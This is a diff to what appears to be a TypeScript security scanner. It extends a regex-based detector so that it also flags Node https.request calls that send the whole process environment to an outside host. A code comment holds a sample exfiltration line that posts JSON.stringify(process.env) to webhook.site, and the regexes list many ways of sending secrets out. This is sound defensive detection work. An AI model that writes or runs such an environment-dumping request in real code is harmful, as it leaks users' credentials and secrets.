@@ -839,9 +839,11 @@ const AUTH_USE = /(?:authorization|x-api-key|api[-_]?key|private-token|x-auth-to
  */
 const WHOLE_ENV = String.raw`(?:\bdict\(\s*os\.environ\s*\)|\bos\.environ\b(?!\s*[.[])|\bprocess\.env\b(?!\s*[.[])|\bENV\.to_h\b|\bSystem\.getenv\(\s*\)|\bos\.Environ\(\s*\)|\bgetenv\(\s*\)|\$_ENV\b(?!\s*\[)|\bDeno\.env\.toObject\(\s*\))`;
 const ENV_SENT = new RegExp(String.raw`\b(?:fetch|axios(?:\.post|\.put)?|requests\.(?:post|put)|httpx\.(?:post|put)|http\.(?:post|put|request)|got\.post|HTTParty\.post|PostAsync|PutAsync|urlopen|Invoke-RestMethod|\.post|\.put)\s*\(?[^;\n]{0,300}?["'\x60](https?:\/\/[^"'\x60\s/]+)[^;\n]{0,300}?${WHOLE_ENV}`);
+// cls-holes15: Node's request given an options object (https.request({ host: 'webhook.site', … }).end(JSON.stringify(process.env))).
+const ENV_SENT_OPTS = new RegExp(String.raw`(?:\b(?:https?|http2)|require\(\s*["'](?:node:)?https?["']\s*\))\.request\(\s*\{[^}]{0,300}?\bhost(?:name)?\s*:\s*["'\x60]([^"'\x60\s/]+)[^;\n]{0,400}?${WHOLE_ENV}`);
 function environmentSent(code: string): Finding[] {
   if (!/environ|process\.env|ENV|getenv|Environ|Deno\.env/.test(code)) return [];
-  const m = ENV_SENT.exec(code);
+  const m = ENV_SENT.exec(code) ?? ENV_SENT_OPTS.exec(code);
   if (!m) return [];
   const host = (m[1] as string).replace(/^https?:\/\//, '');
   const local = /^(?:localhost|127\.|\[::1\])|\.(?:internal|corp|lan|intra|private)(?::\d+)?$/.test(host);
